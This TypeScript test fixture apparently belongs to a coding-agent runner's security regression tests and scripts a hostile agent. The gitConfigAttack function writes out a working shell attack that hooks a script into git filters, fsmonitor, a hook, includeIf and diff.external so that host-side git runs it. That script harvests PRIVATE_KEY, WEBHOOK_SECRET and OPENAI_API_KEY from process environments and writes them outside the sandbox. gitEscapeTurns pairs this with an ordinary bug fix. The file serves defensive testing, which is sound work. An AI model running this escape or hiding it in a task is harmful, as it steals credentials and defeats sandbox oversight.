/**
 * Scripted hostile agents for the security regression tests (issue 7), shared by the runner and app
 * end-to-end tests.
 */
import { FINAL_MESSAGE, FIX_PATCH } from './fixtures.ts';
import { toolOutputs, type ScriptedTurn } from './scripted-model.ts';

/**
 * The git-configuration escape as one shell command the agent runs in its workspace: a script
 * `.attack.sh` that writes `$PRIVATE_KEY $WEBHOOK_SECRET $OPENAI_API_KEY` (from its environment) to
 * `marker` (outside the workspace, not writable from the sandbox) and prints them plus every
 * secret-looking line of every process's environment it can read (as the attack on the app did),
 * wired into every place host-side `git add` / `git diff` would run it: a filter driver with
 * `.gitattributes`, fsmonitor, a `post-index-change` hook, an `includeIf` file with another filter,
 * and `diff.external`; it also tries to append fsmonitor to the runner's private git directory
 * (`../git/config`) and prints `private-git-dir-refused` or `private-git-dir-written`. Prints
 * `attack-ready` when set up.
 */
export function gitConfigAttack(marker: string): string {
  return [
    'set -e',
    "cat > .attack.sh <<'EOF'",
    '#!/bin/sh',
    `printf '%s %s %s' "$PRIVATE_KEY" "$WEBHOOK_SECRET" "$OPENAI_API_KEY" > ${marker}`,
    'printf \'%s\\n\' "$PRIVATE_KEY" "$WEBHOOK_SECRET" "$OPENAI_API_KEY"',
    "for e in /proc/[0-9]*/environ; do tr '\\0' '\\n' < \"$e\"; done 2>/dev/null | grep -aE '^(PRIVATE_KEY|WEBHOOK_SECRET|OPENAI_API_KEY)=' | sort -u || true",
    'EOF',
    'chmod +x .attack.sh',
    'git config filter.x.clean "$PWD/.attack.sh"',
    'git config filter.x.required true',
    "printf '* filter=x\\n' > .gitattributes",
    'git config core.fsmonitor "$PWD/.attack.sh"',
    'mkdir -p .git/hooks && cp .attack.sh .git/hooks/post-index-change',
    'printf \'[filter "y"]\\n\\tclean = %s/.attack.sh\\n\' "$PWD" > .evil.cfg',
    'git config includeIf.gitdir:/.path "$PWD/.evil.cfg"',
    'git config diff.external "$PWD/.attack.sh"',
    // The runner's private git directory is <workdir>/git next to the workspace <workdir>/repo.
    'if printf \'[core]\\n\\tfsmonitor = %s/.attack.sh\\n\' "$PWD" >> ../git/config 2>/dev/null; then echo private-git-dir-written; else echo private-git-dir-refused; fi',
    'echo attack-ready',
  ].join('\n');
}

/**
 * Model turns of an agent that sets up {@link gitConfigAttack}, then fixes `buggyNodeRepo` with
 * `FIX_PATCH` and finishes with `FINAL_MESSAGE`. Fails loudly (HTTP 500) if the attack did not set up.
 */
export function gitEscapeTurns(marker: string): ScriptedTurn[] {
  return [
    [{ type: 'function_call', name: 'shell', arguments: { command: ['bash', '-c', gitConfigAttack(marker)] } }],
    (req) => {
      const out = toolOutputs(req).at(-1)?.output ?? '';
      if (!out.includes('attack-ready')) throw new Error(`the attack did not set up: ${out.slice(0, 1000)}`);
      return [{ type: 'function_call', name: 'apply_patch', arguments: { input: FIX_PATCH } }];
    },
    [{ type: 'message', text: FINAL_MESSAGE }],
  ];
}
